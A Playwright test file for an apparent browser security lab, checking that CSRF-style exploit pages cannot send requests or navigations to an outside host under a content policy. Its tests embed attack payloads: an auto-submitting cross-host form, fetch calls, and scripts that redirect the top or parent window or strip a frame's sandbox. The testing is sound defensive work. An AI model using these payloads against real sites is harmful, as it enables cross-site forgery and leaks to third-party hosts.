import { startDriven } from '../../browsers/launch/driven.ts';
import {
  confinedGrounds,
  lastWords,
  notHeldBackIn,
  outwardExploit,
  outwardKindIds,
} from '../../contract/attacks/outward.ts';
import { performAttack } from '../fixtures/attacks.ts';
import { type Outside, startOutside } from '../fixtures/outside.ts';
import { expect, test } from '../fixtures/test.ts';

/** A Chromium in incognito mode ignores preconnect; a visitor's own profile does not. */
test.use({
  context: async ({ server: { spki }, thirdPartyCookies }, use) => {
    const chromium = await startDriven({ spki, thirdPartyCookies });
    await use(chromium.owner);
    await chromium.close();
  },
});

let outside: Outside;
test.beforeAll(async () => {
  outside = await startOutside();
});
test.afterAll(() => outside.stop());
test.beforeEach(() => outside.reached());

test('without a policy, each kind does reach another host', async ({ page }) => {
  await page.goto(`${outside.address.origin}/control`);
  const reached = new Set<string>();
  await expect
    .poll(
      async () => {
        for (const kind of await outside.reached()) reached.add(kind);
        return outwardKindIds.filter((kind) => !reached.has(kind));
      },
      { timeout: 60_000 },
    )
    .toEqual([]);
});

// From every context, in each engine: npm run engines -- --confined.
for (const { attack, where } of confinedGrounds.filter(({ attack }) => attack === 'csrf-get')) {
  test(`no request that a policy can block leaves the lab from ${where}`, { tag: '@nightly' }, async ({
    page,
    server,
  }) => {
    const exploit = outwardExploit(outside.address);
    const { log } = await performAttack(page, server, { attack, exploit });
    expect(log.map(({ text }) => text)).toContain(lastWords);
    const known: readonly string[] = notHeldBackIn('chromium');
    expect((await outside.reached()).filter((kind) => !known.includes(kind))).toEqual([]);
  });
}

test('a form at the top level is not submitted to another host', async ({ page, server }) => {
  const form = `<form id="f" action="${outside.address.origin}/form" method="post"></form>`;
  const say = `fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: '${lastWords}' })`;
  const exploit = `${form}<script>${say}.finally(() => f.submit())</script>`;
  const { log } = await performAttack(page, server, { attack: 'csrf-get', exploit });
  expect(log.map(({ text }) => text)).toContain(lastWords);
  expect(await outside.reached()).toEqual([]);
});

for (const [name, script] of [
  ['its own frame', `location.href = 'OUTSIDE/own'`],
  ['the top', `try { top.location.href = 'OUTSIDE/top' } catch {}`],
  [
    'the frame around it, freed from its sandbox,',
    `try { frameElement.removeAttribute('sandbox') } catch {}; try { parent.location = 'OUTSIDE/parent' } catch {}`,
  ],
  ['a new window', `window.open('OUTSIDE/window')`],
] as const) {
  test(`an exploit without a top-level navigation cannot send ${name} elsewhere`, { tag: '@nightly' }, async ({
    page,
    server,
  }) => {
    const first = `fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: '${lastWords}' })`;
    const exploit = `<script>${first}.finally(() => { ${script.replaceAll('OUTSIDE', outside.address.origin)} })</script>`;
    const { log } = await performAttack(page, server, { attack: 'csrf-image', exploit });
    expect(log.map(({ text }) => text)).toContain(lastWords);
    expect(await outside.reached()).toEqual([]);
  });
}
